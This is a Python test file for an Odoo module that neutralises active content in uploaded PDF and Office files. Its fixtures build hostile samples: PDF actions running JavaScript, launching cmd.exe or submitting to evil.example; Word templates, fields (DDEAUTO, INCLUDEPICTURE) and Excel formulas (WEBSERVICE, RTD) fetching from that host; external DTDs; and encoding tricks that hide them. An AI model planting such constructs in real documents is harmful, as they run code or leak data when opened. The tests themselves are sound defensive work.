import io
import time
import zipfile
import zlib
from contextlib import suppress

import pypdf
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from odoo.tests import BaseCase, tagged

from .. import active, papers
from . import upload_samples as samples

MEGABYTE = 1024 * 1024
OFFICE = "application/vnd.openxmlformats-officedocument.x"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def pdf_that_acts(kind, **more):
    """A PDF that does something by itself when it is opened."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    action = {NameObject("/S"): NameObject(kind), NameObject("/Type"): NameObject("/Action")}
    action |= {NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    written = io.BytesIO()
    writer.write(written)
    return written.getvalue()


@tagged("post_install", "-at_install")
class TestPapersActive(BaseCase):
    """Documents of strangers do nothing by themselves on the machine of whoever opens them."""

    def test_pdf(self):
        """No script, no program, no sending: the kind of the action is none any more."""
        for kind, more in (
            ("/JavaScript", {"JS": "app.alert(1)"}),
            ("/Launch", {"F": "cmd.exe"}),
            ("/SubmitForm", {"F": "https://evil.example/"}),
            ("/ImportData", {"F": "x.fdf"}),
        ):
            with self.subTest(kind):
                acts = pdf_that_acts(kind, **more)
                self.assertIn(kind, str(pypdf.PdfReader(io.BytesIO(acts)).root_object))
                kept = papers.nameless(acts, papers.PDF)
                root = pypdf.PdfReader(io.BytesIO(kept)).root_object
                self.assertNotIn(kind, str(root))
                self.assertEqual(len(kept), len(acts))
                hidden = acts.replace(
                    kind.encode(), b"/#%02x%s" % (ord(kind[1]), kind[2:].encode())
                )
                self.assertNotEqual(hidden, acts)
                root = pypdf.PdfReader(io.BytesIO(papers.nameless(hidden, papers.PDF))).root_object
                self.assertNotIn(kind, str(root), "a name may be written in numbers")

    def test_pdf_within_a_packed_stream(self):
        packed = zlib.compress(b"2 0 <</S/JavaScript/JS(x)>>")
        head = b"1 0 obj<</Type/ObjStm/N 1/First 4/Length %d>>stream\n" % len(packed)
        kept = papers.nameless(samples.PDF + head + packed + b"\nendstream", papers.PDF)
        start = kept.index(b"stream\n") + len(b"stream\n")
        self.assertNotIn(b"/JavaScript", zlib.decompressobj().decompress(kept[start:]))

    def test_pdf_begins_nothing(self):
        """Whatever would happen by itself: a page that is opened, a file of another machine."""
        writer = pypdf.PdfWriter()
        writer.add_blank_page(100, 100)
        link = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("x")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(link)
        file = {NameObject("/S"): NameObject("/GoToE"), NameObject("/F"): TextStringObject("//x/y")}
        opened = DictionaryObject({NameObject("/O"): DictionaryObject(file)})
        writer.pages[0][NameObject("/AA")] = opened
        played = {
            NameObject("/S"): NameObject("/Rendition"),
            NameObject("/JS"): TextStringObject("x"),
        }
        writer.root_object[NameObject("/Play")] = DictionaryObject(played)
        written = io.BytesIO()
        writer.write(written)
        reader = pypdf.PdfReader(io.BytesIO(papers.nameless(written.getvalue(), papers.PDF)))
        for name in ("/OpenAction", "/AA", "/GoToE", "/JS"):
            self.assertNotIn(f"'{name}'", f"{reader.root_object} {reader.pages[0]}")

    def test_short_names_by_chance(self):
        """Two letters that a packed picture has by chance are none; names have a value behind."""
        for value in (b"(x)", b" 5 0 R", b"<41>", b"%x\n<</O 1 0 R>>", b"\0/X"):
            for name in (b"/JS", b"/AA", b"/J#53"):
                self.assertNotEqual(active.still(name + value), name + value)
        for picture in (b"\x91/AA\x03", b"\xff/JS\x80\n", b"/JS\n\x02", b"/AA%%\xff"):
            self.assertEqual(active.still(picture), picture)

    def test_packed_streams_of_a_pdf_that_hide(self):
        """What cannot be looked through is refused, for programs that show it may read it."""
        objects = b"2 0 <</S/JavaScript/JS(x)>>"
        good = zlib.compress(objects)
        stored = zlib.compress(b"2 0 % \nendstream\n <</S/JavaScript/JS(x)>>", 0)
        large = zlib.compress(objects + b" " * papers.MOST_STREAM)
        head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n"
        for how, content in (
            ("cut off", head + good[:-5]),
            ("another check sum", head + good[:-1] + bytes([good[-1] ^ 1])),
            ("an end within it", head + stored),
            ("more than is unpacked", head + large),
            ("in numbers", head.replace(b"/ObjStm", b"/Obj#53tm") + good),
            ("a dictionary behind it", head.replace(b">>", b"/X<</Y 1>>>>") + good),
            ("a remark behind it", head.replace(b">>", b">> %x\n") + good),
            ("packed twice", head.replace(b"/FlateDecode", b"[/FlateDecode/FlateDecode2]") + good),
            ("rows of differences", head.replace(b"<<", b"<</DecodeParms<</Predictor 2>>") + good),
            ("in letters", head.replace(b"/FlateDecode", b"/ASCIIHexDecode") + good.hex().encode()),
            ("without an end", head + good.replace(b"endstream", b"")),
        ):
            end = b"" if how == "without an end" else b"\nendstream"
            with self.subTest(how), self.assertRaises(papers.PaperError):
                papers.nameless(samples.PDF + b"1 0 obj" + content + end, papers.PDF)
        secret = bytes(range(40, 90)) * 3  # as if it were encrypted
        kept = papers.nameless(samples.PDF + head + secret + b"\nendstream", papers.PDF)
        self.assertIn(secret, kept)

    def test_words_about_it_stay(self):
        """What a document says in its text is no action, and what it links to is clicked."""
        text = b"BT (/JavaScripts are fun) Tj ET /URI /GoTo"
        self.assertEqual(papers.nameless(samples.PDF + text, papers.PDF)[-len(text) :], text)

    def test_office(self):
        """Nothing is fetched when it is opened: no template, picture or book from elsewhere."""
        links = "".join(
            f'<Relationship Id="r{number}" Type="{_RELATION}{kind}" TargetMode="{mode}"'
            f' Target="{target}"/>'
            for number, (kind, target, mode) in enumerate(
                (
                    ("attachedTemplate", "https://evil.example/t.dotm", "External"),
                    ("image", "file://evil.example/x.png", "External"),
                    ("hyperlink", "https://water.example/", "External"),
                    ("styles", "styles.xml", "Internal"),
                )
            )
        )
        written = io.BytesIO(samples.DOCX)
        with zipfile.ZipFile(written, "a") as book:
            for name in ("word/_rels/settings.xml.rels", "word/_rels/other.xml.RELS"):
                book.writestr(name, f"<Relationships>{links}</Relationships>")
        kept = papers.nameless(written.getvalue(), OFFICE)
        with zipfile.ZipFile(io.BytesIO(kept)) as book:
            for name in ("word/_rels/settings.xml.rels", "word/_rels/other.xml.RELS"):
                text = book.read(name).decode()
                self.assertNotIn("evil.example", text)
                self.assertIn("https://water.example/", text)
                self.assertIn('Target="styles.xml"', text)

    def test_office_in_disguise(self):
        """Signs written as numbers are read; an alphabet that hides them all is refused."""
        relation = (
            f"<x:Relationship Type='{_RELATION}attachedTemplate' TargetMode = 'Ext&#101;rnal'"
            " Target = 'https://evil.example/t.dotm'/>"
        )
        self.assertNotIn(b"evil", active.at_home(relation.encode()))
        written = io.BytesIO(samples.DOCX)
        with zipfile.ZipFile(written, "a") as book:
            book.writestr("word/_rels/settings.xml.rels", relation.encode("utf-16"))
        with self.assertRaises(papers.PaperError):
            papers.nameless(written.getvalue(), OFFICE)

    def test_office_that_is_read_letter_by_letter(self):
        """References as XML has them, not as a pattern does; other alphabets are refused."""
        kind, evil = f"{_RELATION}attachedTemplate", "https://evil.example/t.dotm"
        for relation in (
            f'<Relationship Type="{kind}" Target="{evil}?>" TargetMode="External"/>',
            f'<Relationship Type="{kind}" Target="{evil}{"x" * 9000}" TargetMode="External"/>',
            f'<Relationship Type="{kind}" Target="{evil}" TargetMode{" " * 50}="External"/>',
            f'<ré:Relationship Type="{kind}" Target="{evil}" TargetMode="External"/>',
            f'<!-- > --><Relationship\nTargetMode="External" Target="{evil}" Type="{kind}"/>',
        ):
            with self.subTest(relation[:60]):
                kept = active.at_home(f"<x>{relation}</x>".encode())
                self.assertNotIn(b"evil", kept)
                self.assertIn(b'"about:blank"', kept)
        for content in (
            b'<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationship/+AD4-',
            b'<?xml version="1.0" encoding="cp037"?>' + "<Relationship/>".encode("cp037"),
            "<?xml version='1.0'?><Relationship/>".encode("cp037"),
            b"<Relationship",
            f'<Relationship Type="{_RELATION}aFChunk" Target="x.mht"/>'.encode(),
        ):
            with self.subTest(content[:60]), self.assertRaises(active.Unreadable):
                active.at_home(content)

    def test_fields_and_formulas(self):
        """Nor by a field of Word or a formula of Excel; what was shown of it stays."""
        evil, begin = '"https://evil.example/"', '<w:fldChar w:fldCharType="begin"/>'
        for part in (
            f"{begin}<w:instrText> INCLUDEPICTURE {evil} \\d </w:instrText>",
            f"{begin}<w:instrText>incl</w:instrText><w:instrText>udetext {evil}</w:instrText>",
            f"<w:instrText>PAGE</w:instrText>{begin}<w:instrText>DDEAUTO evil x</w:instrText>",
            f"{begin}<w:instrText><![CDATA[ LI]]>&#78;K evil</w:instrText>",
            "<w:fldSimple w:instr='&#68;DE evil'/>",
            "<w:mailMerge><w:connectString w:val='evil'/><w:query w:val='evil'/></w:mailMerge>",
            f"<f>_xlfn.WEBSERVICE({evil.replace('"', '&quot;')})</f>",
            "<f t='array'>I<!-- -->MAGE(&quot;evil&quot;)</f>",
            "<x14:f>RTD(&quot;evil&quot;)</x14:f>",
            "<ddeLink ddeService='cmd' ddeTopic='/c evil'/>",
            "<connection odcFile='evil'><dbPr connection='evil'/><webPr url='evil'/></connection>",
        ):
            with self.subTest(part):
                kept = active.at_home(f"<x>{part}<w:t>shown</w:t></x>".encode())
                self.assertNotIn(b"evil", kept)
                self.assertIn(b"<w:t>shown</w:t></x>", kept)
                self.assertEqual(active.at_home(kept), kept)
        for part in (
            f"{begin}<w:instrText> HYPERLINK {evil} </w:instrText>",
            f"{begin}<w:instrText> TOC </w:instrText><w:t> LINK </w:t>",
            "<f>SUM(A1)</f><t>WEBSERVICE(x)</t>",
        ):
            with self.subTest(part):
                self.assertEqual(
                    active.at_home(f"<x>{part}</x>".encode()), f"<x>{part}</x>".encode()
                )
        with self.assertRaises(active.Unreadable):
            active.at_home(b"<x><instrText>D<instrText>DE</instrText></instrText></x>")

    def test_office_with_a_grammar_of_its_own(self):
        """Nothing is fetched by it, and nothing multiplied: no program for offices writes one."""
        for words in ('SYSTEM "https://evil.example/x.dtd"', '[<!ENTITY a "aaaa">]'):
            written = io.BytesIO(samples.DOCX)
            with zipfile.ZipFile(written, "a") as book:
                book.writestr("word/comments.xml", f"<?xml version='1.0'?><!DOCTYPE w {words}><w/>")
            with self.subTest(words), self.assertRaises(papers.PaperError):
                papers.nameless(written.getvalue(), OFFICE)

    def test_it_costs_little(self):
        for piece in (b"/Java", b"/#4a", b"/#", b"/JavaScript"):
            began = time.process_time()
            papers.nameless(samples.PDF + piece * (2 * MEGABYTE // len(piece)), papers.PDF)
            self.assertLess(time.process_time() - began, 4, piece)
        for piece in (
            *(
                b"<Relationship ",
                b'Target="',
                b"<Relationship/>",
                b"<a x='",
                b"<instrText/>",
                b"&#",
            ),
            *(b"<", b" ", b"IMAGE", b"\xef\xbb\xbf", b"<f>IMAGE(</f>", b"a" * 1000 + b" "),
        ):
            for before, after in ((b"", b""), (b"<x>", b"</x>"), (b"<x:Relationship ", b"/>")):
                began = time.process_time()
                with suppress(active.Unreadable):
                    active.at_home(before + piece * (2 * MEGABYTE // len(piece)) + after)
                self.assertLess(time.process_time() - began, 4, piece)
